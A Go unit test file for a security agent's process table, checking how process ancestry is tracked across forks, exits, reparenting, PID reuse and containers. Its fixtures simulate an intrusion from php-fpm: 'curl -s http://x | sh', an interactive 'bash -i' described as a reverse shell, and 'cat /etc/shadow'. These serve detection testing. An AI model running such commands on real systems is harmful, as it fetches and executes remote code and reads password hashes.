package proctable

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/picket-agent/picket/agent/event"
)

type clock struct{ t time.Time }

func (c *clock) Now() time.Time           { return c.t }
func (c *clock) Add(d time.Duration)      { c.t = c.t.Add(d) }
func newClock() *clock                    { return &clock{t: time.Date(2025, 6, 1, 12, 0, 0, 0, time.UTC)} }
func newTable(c *clock, o Options) *Table { o.Now = c.Now; return New(o) }

// proc builds a process event. start 0 means "unknown", as for a sensor
// that could not read /proc/<pid>/stat.
func proc(kind event.Kind, pid, ppid int, start uint64, comm string, args ...string) *event.Event {
	p := &event.Process{PID: pid, PPID: ppid, StartTime: start, Comm: comm, Args: args}
	if comm != "" {
		p.Exe = "/usr/bin/" + comm
	}
	return &event.Event{Kind: kind, Proc: p}
}

func exec(tb *Table, pid, ppid int, start uint64, comm string, args ...string) *event.Process {
	ev := proc(event.ProcExec, pid, ppid, start, comm, args...)
	tb.Observe(ev)
	return ev.Proc
}

func fork(tb *Table, pid, ppid int, start uint64) {
	tb.Observe(proc(event.ProcFork, pid, ppid, start, ""))
}

func exit(tb *Table, pid int, start uint64) {
	tb.Observe(proc(event.ProcExit, pid, 0, start, ""))
}

// chain renders a lineage as "comm(pid)[x] ← …", x marking exited ones.
func chain(l []event.Ancestor) string {
	var b strings.Builder
	for i, a := range l {
		if i > 0 {
			b.WriteString(" ← ")
		}
		fmt.Fprintf(&b, "%s(%d)", a.Comm, a.PID)
		if a.Exited {
			b.WriteString("x")
		}
	}
	return b.String()
}

// boot starts systemd(1) and nginx(812) → php-fpm(1201) the way the kernel
// reports them: fork, then exec.
func boot(tb *Table) {
	exec(tb, 1, 0, 1, "systemd")
	fork(tb, 812, 1, 500)
	exec(tb, 812, 1, 500, "nginx", "nginx", "-g", "daemon off;")
	fork(tb, 1201, 812, 700)
	exec(tb, 1201, 812, 700, "php-fpm8.2")
}

func TestLineage(t *testing.T) {
	c := newClock()
	tb := newTable(c, Options{})
	boot(tb)
	fork(tb, 4410, 1201, 1000)
	sh := exec(tb, 4410, 1201, 1000, "sh", "sh", "-c", "curl -s http://x | sh")
	fork(tb, 4411, 4410, 1001)
	curl := exec(tb, 4411, 4410, 1001, "curl", "curl", "-s", "http://x")

	if got, want := chain(sh.Lineage), "php-fpm8.2(1201) ← nginx(812) ← systemd(1)"; got != want {
		t.Errorf("sh lineage = %s, want %s", got, want)
	}
	if got, want := chain(curl.Lineage), "sh(4410) ← php-fpm8.2(1201) ← nginx(812) ← systemd(1)"; got != want {
		t.Errorf("curl lineage = %s, want %s", got, want)
	}
	if a := curl.Lineage[0]; a.Exe != "/usr/bin/sh" || strings.Join(a.Args, " ") != "sh -c curl -s http://x | sh" {
		t.Errorf("parent = %+v, want exe and args", a)
	}
	if got := chain(tb.Lineage(4411)); got != chain(curl.Lineage) {
		t.Errorf("Lineage(4411) = %s", got)
	}
	if l := tb.Lineage(1); l != nil {
		t.Errorf("init has lineage %s", chain(l))
	}
	checkInvariants(t, tb)
}

// A forked child is its parent until it execs.
func TestForkCopiesParent(t *testing.T) {
	tb := newTable(newClock(), Options{})
	boot(tb)
	fork(tb, 900, 812, 800)
	p, ok := tb.Get(900)
	if !ok || p.Comm != "nginx" || p.Exe != "/usr/bin/nginx" || len(p.Args) != 3 || p.PPID != 812 || p.StartTime != 800 {
		t.Fatalf("forked child = %+v %v, want nginx's identity", p, ok)
	}
	exec(tb, 900, 812, 800, "id")
	if p, _ := tb.Get(900); p.Comm != "id" || p.Exe != "/usr/bin/id" || len(p.Args) != 0 {
		t.Errorf("after exec = %+v", p)
	}
	if n, _ := tb.Get(812); n.Comm != "nginx" {
		t.Errorf("the child's exec changed its parent: %+v", n)
	}
	checkInvariants(t, tb)
}

// sh forks curl and exits before curl execs; the kernel hands curl to init
// (or a subreaper), and the exec event says so. The lineage still shows
// where curl came from while sh is held, then what the kernel says.
func TestLineageAcrossReparenting(t *testing.T) {
	c := newClock()
	tb := newTable(c, Options{ExitedTTL: 30 * time.Second})
	boot(tb)
	exec(tb, 300, 1, 300, "containerd-shim") // a subreaper
	fork(tb, 4410, 1201, 1000)
	exec(tb, 4410, 1201, 1000, "sh")
	fork(tb, 4411, 4410, 1001)
	exit(tb, 4410, 1000)

	curl := exec(tb, 4411, 1, 1001, "curl")
	if got, want := chain(curl.Lineage), "sh(4410)x ← php-fpm8.2(1201) ← nginx(812) ← systemd(1)"; got != want {
		t.Errorf("after reparenting: %s, want %s", got, want)
	}
	if p, _ := tb.Get(4411); p.PPID != 1 {
		t.Errorf("PPID = %d, want 1 (reparented)", p.PPID)
	}
	s := tb.Stats()
	if s.Reparented != 1 || s.Exited != 1 || s.Live != 5 {
		t.Errorf("stats = %+v", s)
	}
	checkInvariants(t, tb)

	// Past the TTL sh is forgotten; the lineage is what the kernel says.
	c.Add(31 * time.Second)
	if got, want := chain(tb.Lineage(4411)), "systemd(1)"; got != want {
		t.Errorf("after ExitedTTL: %s, want %s", got, want)
	}
	if _, ok := tb.Get(4410); ok {
		t.Error("sh still held after ExitedTTL")
	}
	if s := tb.Stats(); s.Exited != 0 || s.Expired != 1 {
		t.Errorf("stats = %+v", s)
	}
	checkInvariants(t, tb)

	// The same with a subreaper: the kernel gives the orphan to it.
	fork(tb, 4420, 1201, 1100)
	exec(tb, 4420, 1201, 1100, "sh")
	fork(tb, 4421, 4420, 1101)
	exit(tb, 4420, 1100)
	p := exec(tb, 4421, 300, 1101, "wget")
	if got, want := chain(p.Lineage), "sh(4420)x ← php-fpm8.2(1201) ← nginx(812) ← systemd(1)"; got != want {
		t.Errorf("reparented to a subreaper: %s, want %s", got, want)
	}
	c.Add(31 * time.Second)
	if got, want := chain(tb.Lineage(4421)), "containerd-shim(300) ← systemd(1)"; got != want {
		t.Errorf("reparented to a subreaper, after ExitedTTL: %s, want %s", got, want)
	}
	if s := tb.Stats(); s.Reparented != 2 || s.Expired != 2 {
		t.Errorf("stats = %+v", s)
	}
	checkInvariants(t, tb)
}

// The exit of the old parent was never seen (lost events): a new PPID on a
// later report means it exited, since the kernel reparents only then.
func TestReparentMissedExit(t *testing.T) {
	tb := newTable(newClock(), Options{})
	boot(tb)
	fork(tb, 4410, 1201, 1000)
	exec(tb, 4410, 1201, 1000, "sh")
	fork(tb, 4411, 4410, 1001)
	curl := exec(tb, 4411, 1, 1001, "curl")
	if got, want := chain(curl.Lineage), "sh(4410)x ← php-fpm8.2(1201) ← nginx(812) ← systemd(1)"; got != want {
		t.Errorf("lineage = %s, want %s", got, want)
	}
	checkInvariants(t, tb)
}

func TestPIDReuse(t *testing.T) {
	c := newClock()
	tb := newTable(c, Options{})
	boot(tb)
	fork(tb, 4410, 1201, 1000)
	exec(tb, 4410, 1201, 1000, "sh")
	fork(tb, 4411, 4410, 1001)
	exec(tb, 4411, 4410, 1001, "sleep")

	// sh's exit is lost; pid 4410 comes back as a different process with
	// another start time, started by sshd.
	exec(tb, 22, 1, 50, "sshd")
	py := exec(tb, 4410, 22, 2000, "python3")
	if got, want := chain(py.Lineage), "sshd(22) ← systemd(1)"; got != want {
		t.Errorf("reused pid lineage = %s, want %s (never the old sh's)", got, want)
	}
	if p, _ := tb.Get(4410); p.Comm != "python3" || p.StartTime != 2000 || p.PPID != 22 {
		t.Errorf("Get(4410) = %+v", p)
	}
	// sleep's parent pid is still 4410 to the kernel's last word, but
	// 4410 is python now: sleep must not claim python as its parent.
	if got := chain(tb.Lineage(4411)); got != "" {
		t.Errorf("child of the old sh: lineage %s, want none", got)
	}
	if s := tb.Stats(); s.Reused != 1 {
		t.Errorf("Reused = %d", s.Reused)
	}
	checkInvariants(t, tb)

	// Without start times: a pid whose process exited and then execs is a
	// new process.
	tb2 := newTable(c, Options{})
	exec(tb2, 1, 0, 0, "systemd")
	exec(tb2, 50, 1, 0, "cron")
	exec(tb2, 60, 50, 0, "backup")
	exec(tb2, 70, 60, 0, "tar")
	exit(tb2, 60, 0)
	p := exec(tb2, 60, 1, 0, "nc")
	if got, want := chain(p.Lineage), "systemd(1)"; got != want {
		t.Errorf("reused pid without start times: %s, want %s", got, want)
	}
	// A fork always hands out a pid nobody holds.
	fork(tb2, 70, 50, 0)
	if p, _ := tb2.Get(70); p.Comm != "cron" {
		t.Errorf("fork onto a held pid: %+v, want a copy of cron", p)
	}
	if s := tb2.Stats(); s.Reused != 2 {
		t.Errorf("Reused = %d, want 2", s.Reused)
	}
	checkInvariants(t, tb2)

	// An exit with another start time ends an unseen process: ours is
	// gone too.
	exit(tb, 4411, 9999)
	if _, ok := tb.Get(4411); ok {
		t.Error("stale entry kept after an exit with another start time")
	}
	checkInvariants(t, tb)
}

// A process is older than its children: a pid held by a younger process
// is not the parent (it is a later holder of the pid).
func TestYoungerParentRejected(t *testing.T) {
	tb := newTable(newClock(), Options{})
	exec(tb, 1, 0, 1, "systemd")
	exec(tb, 500, 400, 1000, "worker") // its parent 400 not seen yet (scan order)
	exec(tb, 400, 1, 5000, "bash")     // 400 now a newer process
	if got := chain(tb.Lineage(500)); got != "" {
		t.Errorf("lineage through a younger process: %s", got)
	}
	exec(tb, 600, 400, 6000, "ls")
	if got, want := chain(tb.Lineage(600)), "bash(400) ← systemd(1)"; got != want {
		t.Errorf("lineage = %s, want %s", got, want)
	}
	checkInvariants(t, tb)
}

func TestCyclesAndDepth(t *testing.T) {
	tb := newTable(newClock(), Options{MaxDepth: 32})
	// Parent links that loop (bad input, or pids reused without start
	// times): the lineage stops at the repeat.
	exec(tb, 10, 20, 0, "a")
	exec(tb, 20, 30, 0, "b")
	exec(tb, 30, 10, 0, "c")
	p := exec(tb, 10, 20, 0, "a")
	if got, want := chain(p.Lineage), "b(20) ← c(30)"; got != want {
		t.Errorf("cycle: %s, want %s", got, want)
	}
	exec(tb, 40, 40, 0, "self")
	if got := chain(tb.Lineage(40)); got != "" {
		t.Errorf("self-parent: %s", got)
	}

	// A chain deeper than MaxDepth is cut at MaxDepth.
	exec(tb, 1000, 1, 0, "root")
	for i := 1; i <= 100; i++ {
		exec(tb, 1000+i, 1000+i-1, 0, "sh")
	}
	l := tb.Lineage(1100)
	if len(l) != 32 || l[0].PID != 1099 || l[31].PID != 1068 {
		t.Errorf("deep chain: %d ancestors, %v … %v", len(l), l[0], l[len(l)-1])
	}
	checkInvariants(t, tb)
}

// pid 0 ends a lineage: kernel threads' parent kthreadd(2) has parent 0.
func TestLineageStopsAtZero(t *testing.T) {
	tb := newTable(newClock(), Options{})
	exec(tb, 2, 0, 2, "kthreadd")
	p := exec(tb, 77, 2, 10, "kworker/0:1")
	if got, want := chain(p.Lineage), "kthreadd(2)"; got != want {
		t.Errorf("%s, want %s", got, want)
	}
}

func TestExitedKeptOnlyForChildren(t *testing.T) {
	c := newClock()
	tb := newTable(c, Options{ExitedTTL: 10 * time.Second})
	boot(tb)
	n := tb.Len()
	fork(tb, 5000, 1201, 2000)
	exec(tb, 5000, 1201, 2000, "id")
	exit(tb, 5000, 2000)
	if tb.Len() != n {
		t.Errorf("childless exited process kept: Len %d, want %d", tb.Len(), n)
	}
	// An exited parent stays while its child is held, and goes with it.
	fork(tb, 5001, 1201, 2001)
	fork(tb, 5002, 5001, 2002)
	exit(tb, 5001, 2001)
	if s := tb.Stats(); s.Exited != 1 {
		t.Errorf("Exited = %d, want 1", s.Exited)
	}
	exit(tb, 5002, 2002)
	if tb.Len() != n {
		t.Errorf("exited parent outlived its last child: Len %d, want %d", tb.Len(), n)
	}
	if s := tb.Stats(); s.Expired != 3 || s.Exited != 0 {
		t.Errorf("stats = %+v", s)
	}
	checkInvariants(t, tb)
}

func TestKeepExitedAncestors(t *testing.T) {
	c := newClock()
	tb := newTable(c, Options{ExitedTTL: 10 * time.Second, KeepExitedAncestors: true})
	boot(tb)
	fork(tb, 4410, 1201, 1000)
	exec(tb, 4410, 1201, 1000, "sh")
	fork(tb, 4411, 4410, 1001)
	exec(tb, 4411, 4410, 1001, "bash", "bash", "-i")
	exit(tb, 4410, 1000)
	for range 10 {
		c.Add(time.Minute)
		exec(tb, 4411, 1, 1001, "bash", "bash", "-i")
	}
	// Ten minutes on, the reverse shell still shows it came from php-fpm.
	fork(tb, 4500, 4411, 1500)
	p := exec(tb, 4500, 4411, 1500, "cat", "cat", "/etc/shadow")
	if got, want := chain(p.Lineage), "bash(4411) ← sh(4410)x ← php-fpm8.2(1201) ← nginx(812) ← systemd(1)"; got != want {
		t.Errorf("%s, want %s", got, want)
	}
	exit(tb, 4500, 1500)
	exit(tb, 4411, 1001)
	if _, ok := tb.Get(4410); ok {
		t.Error("exited ancestor kept after its last child went")
	}
	checkInvariants(t, tb)
}

type namer map[string][2]string

func (n namer) Lookup(runtime, id string) (string, string, bool) {
	v, ok := n[runtime+"/"+id]
	return v[0], v[1], ok
}

func TestContainer(t *testing.T) {
	const id = "ade4c0898f98e6c7b86a5b278d85baf26c039d4f624ae1409d18381c41234806"
	cg := "0::/system.slice/docker-" + id + ".scope"
	tb := newTable(newClock(), Options{Containers: namer{"docker/" + id: {"web-1", "nginx:1.27"}}})
	exec(tb, 1, 0, 1, "systemd")
	ev := proc(event.ProcExec, 41223, 1, 100, "nginx")
	ev.Proc.Cgroup = cg
	tb.Observe(ev)
	want := event.Container{Runtime: "docker", ID: id, Name: "web-1", Image: "nginx:1.27"}
	if ev.Proc.Container == nil || *ev.Proc.Container != want {
		t.Fatalf("Container = %+v, want %+v", ev.Proc.Container, want)
	}
	// A child inherits its container at fork; its exec (same cgroup, or
	// cgroup unread) shares it rather than allocating another.
	fork(tb, 41300, 41223, 200)
	ev2 := proc(event.ProcExec, 41300, 41223, 200, "sh")
	ev2.Proc.Cgroup = cg
	tb.Observe(ev2)
	if ev2.Proc.Container != ev.Proc.Container {
		t.Errorf("child's container = %+v, want the parent's", ev2.Proc.Container)
	}
	fork(tb, 41301, 41300, 201)
	ev3 := proc(event.ProcExec, 41301, 41300, 201, "id")
	tb.Observe(ev3)
	if ev3.Proc.Container != ev.Proc.Container {
		t.Errorf("container with the cgroup unread = %+v", ev3.Proc.Container)
	}
	if got := chain(ev3.Proc.Lineage); got != "sh(41300) ← nginx(41223) ← systemd(1)" {
		t.Errorf("lineage in a container: %s", got)
	}
	// A host process has none; an unnamed container has runtime and id.
	ev4 := proc(event.ProcExec, 900, 1, 300, "sshd")
	ev4.Proc.Cgroup = "0::/system.slice/ssh.service"
	tb.Observe(ev4)
	if ev4.Proc.Container != nil {
		t.Errorf("host process in container %+v", ev4.Proc.Container)
	}
	other := strings.Repeat("b", 64)
	ev5 := proc(event.ProcExec, 901, 1, 301, "pause")
	ev5.Proc.Cgroup = "/kubepods/besteffort/pod1/" + other
	tb.Observe(ev5)
	if c := ev5.Proc.Container; c == nil || c.Runtime != "containerd" || c.ID != other || c.Name != "" {
		t.Errorf("unnamed container = %+v", c)
	}
	if p, _ := tb.Get(901); p.Container != ev5.Proc.Container || p.Cgroup != ev5.Proc.Cgroup {
		t.Errorf("Get = %+v", p)
	}
	// The sensor's own attribution wins.
	ev6 := proc(event.ProcExec, 902, 1, 302, "x")
	ev6.Proc.Cgroup = cg
	ev6.Proc.Container = &event.Container{Runtime: "podman", ID: "set-by-sensor"}
	tb.Observe(ev6)
	if ev6.Proc.Container.ID != "set-by-sensor" {
		t.Errorf("sensor's container replaced: %+v", ev6.Proc.Container)
	}
	checkInvariants(t, tb)
}

func TestIgnoresBadEvents(t *testing.T) {
	tb := newTable(newClock(), Options{})
	tb.Observe(nil)
	tb.Observe(&event.Event{Kind: event.ProcExec})
	tb.Observe(proc(event.ProcExec, 0, 1, 0, "x"))
	tb.Observe(proc(event.ProcExec, -5, 1, 0, "x"))
	tb.Observe(proc(event.ProcExec, 1<<40, 1, 0, "x"))
	tb.Observe(proc(event.AuthFailure, 10, 1, 0, "x"))
	exit(tb, 99, 0)
	exec(tb, 10, 1, 5, "a")
	fork(tb, 10, 10, 5) // a thread, reported by tgid
	if tb.Len() != 1 {
		t.Errorf("Len = %d, want 1", tb.Len())
	}
	if p, _ := tb.Get(10); p.Comm != "a" {
		t.Errorf("thread fork replaced the process: %+v", p)
	}
	if _, ok := tb.Get(0); ok {
		t.Error("Get(0) found something")
	}
	checkInvariants(t, tb)
}

// checkInvariants verifies the table's internal bookkeeping.
func checkInvariants(t testing.TB, tb *Table) {
	t.Helper()
	if n := len(tb.byPID); n != tb.live.n+tb.exited.n || n > tb.o.Max {
		t.Fatalf("map %d, live %d, exited %d, max %d", n, tb.live.n, tb.exited.n, tb.o.Max)
	}
	seen := map[*entry]bool{}
	for _, l := range []*list{&tb.live, &tb.exited} {
		n := 0
		for e := l.root.next; e != &l.root; e = e.next {
			n++
			if tb.byPID[e.pid] != e || seen[e] || e.exited != (l == &tb.exited) {
				t.Fatalf("list entry %d (exited %v) not consistent with the map", e.pid, e.exited)
			}
			seen[e] = true
		}
		if n != l.n {
			t.Fatalf("list count %d, walked %d", l.n, n)
		}
	}
	kids := map[*entry]int32{}
	for _, e := range tb.byPID {
		if par := tb.linked(e); par != nil {
			kids[par]++
		}
	}
	for _, e := range tb.byPID {
		if e.children != kids[e] {
			t.Fatalf("pid %d: children %d, counted %d", e.pid, e.children, kids[e])
		}
		if e.exited && e.children == 0 {
			t.Fatalf("pid %d exited with no children, still held", e.pid)
		}
	}
	// Lineage links as it walks: only after the counts are checked.
	pids := make([]int, 0, len(tb.byPID))
	for pid := range tb.byPID {
		pids = append(pids, int(pid))
	}
	for _, pid := range pids {
		if l := tb.Lineage(pid); len(l) > tb.o.MaxDepth {
			t.Fatalf("pid %d: lineage of %d", pid, len(l))
		}
	}
}
